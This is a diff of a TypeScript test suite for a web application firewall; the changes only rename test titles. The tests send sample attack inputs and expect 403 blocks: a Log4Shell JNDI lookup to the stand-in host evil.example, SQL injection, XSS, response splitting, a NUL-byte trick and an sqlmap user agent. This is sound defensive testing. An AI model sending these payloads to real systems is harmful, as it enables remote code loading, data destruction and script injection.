@@ -39,7 +39,7 @@ describe("P3 WAF blocks each attack class", () => {
     ["java (log4shell)", "/__waf/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"],
     ["protocol attack (response splitting)", "/__waf/search?q=x%0d%0aSet-Cookie%3A%20a%3Db"],
     ["protocol (NUL byte)", "/__waf/search?q=report.pdf%00.php"],
-  ])("P3: %s in the query is blocked with 403 before the handler", async (_group, target) => {
+  ])("P3 (refuses): %s in the query is blocked with 403 before the handler", async (_group, target) => {
     const { app, state } = wafProbeApp();
     const logs = captureLogs();
     let response: Response;
@@ -57,7 +57,7 @@ describe("P3 WAF blocks each attack class", () => {
     expect(state.calls).toBe(0);
   });
 
-  it("P3: a scanner user agent is blocked", async () => {
+  it("P3 (refuses): a scanner user agent is blocked", async () => {
     const { app } = wafProbeApp();
     await expectProblem(
       await callApp(app, "/__waf/search", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } }),
@@ -66,7 +66,7 @@ describe("P3 WAF blocks each attack class", () => {
     );
   });
 
-  it("P3: Log4Shell in a header is blocked", async () => {
+  it("P3 (refuses): Log4Shell in a header is blocked", async () => {
     const { app } = wafProbeApp();
     await expectProblem(
       await callApp(app, "/__waf/search", { headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } }),
@@ -75,7 +75,7 @@ describe("P3 WAF blocks each attack class", () => {
     );
   });
 
-  it("P3: an attack in a JSON body (value and key) is blocked and the handler never runs", async () => {
+  it("P3 (refuses): an attack in a JSON body (value and key) is blocked and the handler never runs", async () => {
     const { app, state } = wafProbeApp();
     await expectProblem(
       await callApp(app, "/__waf/notes", post({ title: "x", description: "'; DROP TABLE users; --" })),
@@ -94,7 +94,7 @@ describe("P3 WAF blocks each attack class", () => {
     expect(state.calls).toBe(0);
   });
 
-  it("P3: a disallowed method and conflicting framing headers are refused", async () => {
+  it("P3 (refuses): a disallowed method and conflicting framing headers are refused", async () => {
     const { app } = wafProbeApp();
     await expectProblem(await callApp(app, "/__waf/search", { method: "PROPFIND" }), 403, "waf_blocked");
     await expectProblem(
@@ -104,7 +104,7 @@ describe("P3 WAF blocks each attack class", () => {
     );
   });
 
-  it("P3: a blocked request through the real entry point costs no database or Redis round trip", async () => {
+  it("P3 (refuses): a blocked request through the real entry point costs no database or Redis round trip", async () => {
     // /readyz would touch both; the WAF refuses first, so the answer is 403, not 200/503.
     const response = await call("/readyz?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
     await expectProblem(response, 403, "waf_blocked");
@@ -166,14 +166,14 @@ describe("P3 WAF exclusions are as narrow as declared", () => {
     expect(state.calls).toBe(2);
   });
 
-  it("P3: the same text in another field of the same route is blocked", async () => {
+  it("P3 (refuses): the same text in another field of the same route is blocked", async () => {
     const { app, state } = wafProbeApp();
     await expectProblem(await callApp(app, "/__waf/reports", post({ title: sql, description: "x" })), 403, "waf_blocked");
     await expectProblem(await callApp(app, "/__waf/reports", post({ title: "x", description: "x", notes: html })), 403, "waf_blocked");
     expect(state.calls).toBe(0);
   });
 
-  it("P3: the excluded field is still checked by every other group", async () => {
+  it("P3 (refuses): the excluded field is still checked by every other group", async () => {
     const { app, state } = wafProbeApp();
     for (const attack of [
       "${jndi:ldap://evil.example/a}",
@@ -186,14 +186,14 @@ describe("P3 WAF exclusions are as narrow as declared", () => {
     expect(state.calls).toBe(0);
   });
 
-  it("P3: the same field on a route without the exclusion is blocked", async () => {
+  it("P3 (refuses): the same field on a route without the exclusion is blocked", async () => {
     const { app } = wafProbeApp();
     await expectProblem(await callApp(app, "/__waf/notes", post({ title: "t", description: sql })), 403, "waf_blocked");
   });
 });
 
 describe("P3 WAF answer, log-only mode and events", () => {
-  it("P3: a block is 403 problem+json with the request id only (no rule ids), and never echoes the payload", async () => {
+  it("P3 (refuses): a block is 403 problem+json with the request id only (no rule ids), and never echoes the payload", async () => {
     const { app } = wafProbeApp();
     const payload = "%3Cscript%3Ealert('pwned-marker')%3C/script%3E";
     const response = await callApp(app, `/__waf/search?q=${payload}`, { headers: { "x-request-id": "waf-test-1" } });
@@ -253,7 +253,7 @@ describe("P3 WAF answer, log-only mode and events", () => {
     await expectProblem(await callApp(app, pl2Only, undefined, envWith({ WAF_PARANOIA: "2" })), 403, "waf_blocked");
   });
 
-  it("P3: an invalid WAF setting is a configuration error, not a silent default", async () => {
+  it("P3 (refuses): an invalid WAF setting is a configuration error, not a silent default", async () => {
     const { app } = wafProbeApp();
     const logs = captureLogs();
     try {
@@ -265,7 +265,7 @@ describe("P3 WAF answer, log-only mode and events", () => {
 });
 
 describe("P3 WAF and the body stages", () => {
-  it("P3: after the WAF read the body, the JSON, 413 and 415 stages still work", async () => {
+  it("P3 (refuses): after the WAF read the body, the JSON, 413 and 415 stages still work", async () => {
     const { app, state } = wafProbeApp();
     expect((await callApp(app, "/__waf/notes", post({ title: "ok", description: "fine" }))).status).toBe(200);
     await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: '{"title": ' }), 400, "invalid_json");
